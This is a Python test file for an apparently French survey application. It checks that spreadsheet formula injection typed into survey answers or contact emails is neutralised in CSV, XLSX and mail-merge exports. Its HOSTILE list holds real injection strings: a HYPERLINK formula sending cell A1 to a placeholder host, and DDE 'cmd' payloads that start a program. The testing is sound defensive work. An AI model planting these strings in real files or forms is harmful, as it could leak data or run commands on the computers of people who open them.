"""Formula injection over real HTTP: a respondent types a spreadsheet formula as an answer, an
operator imports a hostile contact address; every CSV and workbook the product then writes holds
text a spreadsheet will not run, and barometre reads back exactly what was typed."""

from __future__ import annotations

import csv
import io

import openpyxl
import polars as pl
import pytest
import yaml

from barometre.collection.models import Answer, Response, Target
from barometre.edition.files import read_edition
from barometre.register.spreadsheet_cells import (
    neutralise,
    neutralise_frame,
    restore,
    restore_frame,
)

pytestmark = pytest.mark.django_db(transaction=True)

HOSTILE = [
    '=HYPERLINK("http://exemple.invalid/?"&A1;"Cliquez")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "'=déjà échappé",
]
SAFE = ["Brest", "-5", "+3,5", "12.5", "'apostrophe", "", "a=b"]


@pytest.mark.parametrize("text", HOSTILE + SAFE)
def test_neutralise_is_reversible_and_leaves_plain_text_and_numbers(text):
    written = neutralise(text)
    assert restore(written) == text
    if text in SAFE:
        assert written == text
    else:
        assert written.startswith("'") and written[1:] == text
    frame = pl.DataFrame({"t": [text], "n": [1.5]})
    assert neutralise_frame(frame)["t"].to_list() == [written]
    assert restore_frame(neutralise_frame(frame)).equals(frame)


def _typed_answer(http, text: str) -> None:
    """The respondent types `text` in the free-text question (the web form's autosave)."""
    version = Response.objects.get(campaign__name="Textes").version
    saved = http.post(
        "/r/questionnaire/commentaires/autosave/",
        {"commentaire": text, "version": version, "fields": "commentaire"},
    )
    assert saved.status_code == 200, saved.text[:500]


def _export(world, fmt: str):
    from barometre.collection.models import Campaign

    campaign = Campaign.objects.get(name="Textes")
    answer = world.client("national").get(
        f"/operateur/campagnes/{campaign.pk}/export/?format={fmt}"
    )
    assert answer.status_code == 200, answer.status_code
    return answer.content


@pytest.mark.parametrize("text", HOSTILE[:2] + HOSTILE[5:])
def test_a_typed_formula_never_runs_in_the_exports(world, text_link, tmp_path, text):
    _typed_answer(text_link, text)
    assert list(
        Answer.objects.filter(question_id="commentaire").values_list("value", flat=True)
    ) == [text]

    book = openpyxl.load_workbook(io.BytesIO(_export(world, "xlsx")))
    header, row = list(book.active.iter_rows(max_row=2))
    cell = row[[c.value for c in header].index("commentaire")]
    assert cell.data_type == "s" and cell.value == text  # a string, never a formula

    text_csv = _export(world, "csv").decode("utf-8")
    rows = list(csv.DictReader(io.StringIO(text_csv)))
    assert rows[0]["commentaire"] == "'" + text  # shown as text by a spreadsheet

    # barometre reads back exactly what was typed
    folder = tmp_path / "edition"
    folder.mkdir()
    from barometre.collection.models import Edition

    edition = Edition.objects.get(slug="textes-2026")
    (folder / "questionnaire.yaml").write_text(edition.questionnaire_yaml, encoding="utf-8")
    (folder / "edition.yaml").write_text(
        yaml.safe_dump({"id": "textes", "title": "Textes", "year": 2026}), encoding="utf-8"
    )
    (folder / "responses.csv").write_text(text_csv, encoding="utf-8")
    read = read_edition(folder)
    assert read.responses["commentaire"].to_list() == [text]


def test_a_hostile_contact_address_never_runs_in_the_mail_merge(world, unchanged):
    campaign = world.finistere
    Target.objects.filter(campaign=campaign, code="29019").update(
        email='=HYPERLINK("http://exemple.invalid")'
    )
    links = world.client("national").post(
        f"/operateur/campagnes/{campaign.pk}/invitations/action/", {"action": "csv_tous"}
    )
    assert links.status_code == 200
    rows = list(csv.reader(io.StringIO(links.content.decode("utf-8-sig")), delimiter=";"))
    emails = {r[0]: r[2] for r in rows[1:]}
    assert emails["29019"] == '\'=HYPERLINK("http://exemple.invalid")'
    assert all(not cell.startswith(("=", "+", "@")) for row in rows for cell in row)
